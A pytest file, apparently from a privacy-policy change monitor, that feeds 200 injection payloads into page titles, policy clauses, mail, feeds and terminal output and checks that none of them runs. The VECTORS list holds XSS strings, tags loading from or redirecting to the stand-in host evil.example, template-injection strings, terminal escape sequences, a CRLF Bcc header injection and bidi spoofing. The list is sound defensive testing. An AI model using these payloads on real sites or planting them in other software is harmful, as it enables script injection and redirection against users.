"""Two hundred hostile texts in titles, clauses, addresses, errors and names do nothing anywhere."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from selectolax.lexbor import LexborHTMLParser

from benchmarks.page.fill import Filler
from benchmarks.page.sample import NOW
from monitor.decide.memory import VersionRef
from monitor.decide.step import Event
from monitor.model import (
    Change,
    Clause,
    DateChange,
    Edit,
    Policy,
    PrintedDate,
    Report,
    Signal,
    Watch,
)
from monitor.report.feed import Item, Subject, feed
from monitor.report.html import redline_page
from monitor.report.letter import letter
from monitor.report.message import About
from monitor.report.payload import changed
from monitor.report.payload_reader import parse
from monitor.report.terminal import redline_text
from tests.web.unsynced import unsynced_store

BREAKOUTS: Final = ("", '">', "'>", "</title>", "</textarea></script></style>-->")
VECTORS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='&#106;avascript:alert(1)'>click</a>",
    "<form action=//evil.example><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<p hx-get=//evil.example hx-trigger=load>x</p>",
    "<p data-hx-on:load=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<!--><img src onerror=alert(1)>-->",
    "<![CDATA[<img src onerror=alert(1)>]]>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " onmouseover=alert(1) x=",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% import os %}${7*7}",
    "{0.__class__}{company}%s%(x)s",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred\x9bm",
    "Subject\r\nBcc: victim@evil.example\r\n\r\nbody",
    "\u202egnp.exe\u2066hidden\u2069",
    "\u2028<script>alert(1)</script>\u2029",
    "«<b>hit</b>»\x00«",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\U000e0041\ufeff\ufff9<u>tag</u>",
)
PAYLOADS: Final = tuple(breakout + vector for breakout in BREAKOUTS for vector in VECTORS)
CONTROLS: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) == 200


def watch_of(number: int, words: str) -> Watch:
    return Watch(f"c{number}/d", words, words, words)


def policy_of(words: str, *more: str) -> Policy:
    clauses = (
        Clause(f"{words} title", kind="heading", path=(), level=1),
        *(
            Clause(f"We keep your data {text}", path=(f"{words} title",), label=words[:40])
            for text in (words, *more)
        ),
    )
    return Policy(clauses, (PrintedDate("2026-01", "updated", words),), "en", words)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder in which watch n says payload n wherever a page, a server or a person has a say."""
    root = tmp_path_factory.mktemp("hostile") / "snapshots"
    with unsynced_store(root) as store:
        watches = [watch_of(n, words) for n, words in enumerate((*PAYLOADS, "harmless"))]
        filler = Filler(store, NOW - timedelta(days=3))
        filler.sync_watches(watches)
        for watch in watches:
            live(filler, watch)
    return root


def live(filler: Filler, watch: Watch) -> None:
    words = watch.company
    filler.now = NOW - timedelta(days=3)
    filler.version(watch, policy_of(words), body=b"<script>alert(1)</script>")
    filler.now = NOW - timedelta(days=2)
    filler.version(watch, policy_of(words, f"and sell it for 12 months {words}"))
    filler.store.review(watch.id, 1, words, NOW)
    filler.blinking(watch, words, 3)
    filler.problem(watch, "wall", words)
    filler.read(watch, "trouble", words)


PAGES: Final = (
    "/?q=c{number}/d&show=",
    "/watch/c{number}/d",
    "/watch/c{number}/d/change/1",
    "/watch/c{number}/d/change/1?text=whole&layout=sides",
    "/watch/c{number}/d/change/2",
    "/watch/c{number}/d/version/2",
    "/search?q={words}",
    "/compare?left=c{number}/d&right=c{number}/d",
)
ALWAYS: Final = frozenset({
    "html", "head", "body", "meta", "title", "link", "script", "a", "header", "div", "nav", "form",
    "input", "button", "main", "p", "h1", "h2", "h3", "span", "bdi", "b", "table", "thead", "tbody",
    "tr", "th", "td", "label", "select", "option", "time", "ol", "ul", "li", "dl", "dt", "dd", "del",
    "ins", "mark", "article", "section", "details", "summary", "textarea", "q", "kbd", "fieldset",
    "legend", "svg", "defs", "pattern", "line", "text", "circle", "rect",
})  # fmt: skip
"""Every element that our templates have; what a payload brings besides would be found."""
HTMX: Final = frozenset({
    "hx-get", "hx-target", "hx-swap", "hx-trigger", "hx-select", "hx-replace-url",
})  # fmt: skip
LEADING: Final = frozenset({"href", "src", "action", "formaction", "hx-get"})


def faults(html: str) -> Iterator[str]:
    """What a browser would find in this page that no template of ours put there."""
    tree = LexborHTMLParser(html)
    for node in tree.root.traverse() if tree.root else ():
        if node.tag not in ALWAYS:
            yield f"<{node.tag}>"
        for name, value in node.attributes.items():
            text = value or ""
            acts = ("on", "style", "hx-", "data-hx", "http-equiv")
            runs = name.startswith(acts) and name not in HTMX
            odd = not re.fullmatch("[a-zA-Z][a-zA-Z0-9-]*", name)
            leads = name in LEADING and not re.match(r"/(?!/)|#|https?://", text)
            if runs or odd or leads:
                yield f"{node.tag} {name}={text}"
        if node.tag == "script" and not (node.attributes.get("src") or "").startswith("/static/"):
            yield "a script of its own"
    if found := CONTROLS.search(html):
        yield f"the control {found[0]!a}"


@pytest.mark.parametrize("number", range(200))
def test_no_page_is_moved_by_them(opened: Any, hostile: Path, number: int) -> None:
    words = quote(PAYLOADS[number], safe="")
    page = opened(hostile)
    for path in PAGES:
        assert list(faults(page.get(path.format(number=number, words=words)).text)) == [], path


def test_they_are_shown_as_what_they_are(opened: Any, hostile: Path) -> None:
    """Nothing is a template, and nothing is lost: words stay words."""
    page = opened(hostile)
    for vector in ("{{ 7 * 7 }}{% import os %}${7*7}", "<script>alert(1)</script>"):
        path = f"/watch/c{PAYLOADS.index(vector)}/d/change/1"
        assert vector in LexborHTMLParser(page.get(path).text).text()


def test_the_finder_of_faults_finds_them() -> None:
    """Unescaped, every vector that is markup would be found."""
    markup = [vector for vector in VECTORS if re.search("<[a-zA-Z]", vector)]
    missed = [vector for vector in markup if not list(faults(f"<main>{vector}</main>"))]
    assert missed == []


@pytest.mark.parametrize("number", range(200))
def test_no_redline_mail_feed_or_terminal_is_moved_by_them(number: int) -> None:
    words = PAYLOADS[number]
    report, watch = report_of(words), watch_of(number, words)
    date = PrintedDate("2026-01", "updated", words)
    before, after = VersionRef("a", NOW, date), VersionRef("b", NOW, date)
    about = About(watch.id, words, words, words)
    pages = [redline_page(report, about, before, after)]
    message = parse(changed(watch, before, after, report, NOW))
    mail = letter((message,), words, "en")
    event = Event("policy.changed", watch.id, 1, NOW, "a", "b", before, after, report)
    atom = ElementTree.fromstring(feed(Subject(watch.id, words), [Item(event, about)]))
    entry = atom.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}content")
    assert entry is not None
    pages += [mail.html, entry.text or ""]
    for page in pages:
        assert not CONTROLS.search(page)
        assert list(moved(page)) == []
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", mail.subject)
    shown = redline_text(report, about, before, after)
    assert not CONTROLS.search(shown)


def moved(html: str) -> Iterator[str]:
    """Elements and attributes that run, load, send or lead somewhere."""
    for node in LexborHTMLParser(html).root.traverse():  # type: ignore[union-attr] # a page has a root
        if node.tag in (
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "img",
            "svg",
            "base",
            "math",
            "video",
            "input",
        ):
            yield f"<{node.tag}>"
        for name, value in node.attributes.items():
            if name.startswith(("on", "hx-", "data-hx")):
                yield f"{node.tag} {name}"
            if name in ("href", "src") and not (value or "").startswith(
                ("http://", "https://", "#", "mailto:")
            ):
                yield f"{node.tag} {name}={value}"


def report_of(words: str) -> Report:
    change = Change(
        "reworded", words, (words, words), words, f"{words} more", words, words,
        (words,), (Signal(words, words, words),), "high", (words,),  # type: ignore[arg-type] # a name no rule has
        (Edit("same", words), Edit("inserted", f" more {words}"), Edit("deleted", words)),
    )  # fmt: skip
    editorial = replace(change, severity="editorial", kind="moved")
    date = PrintedDate("2026-01", "updated", words)
    return Report((change, editorial), DateChange("moved", date, date), words, language="en")
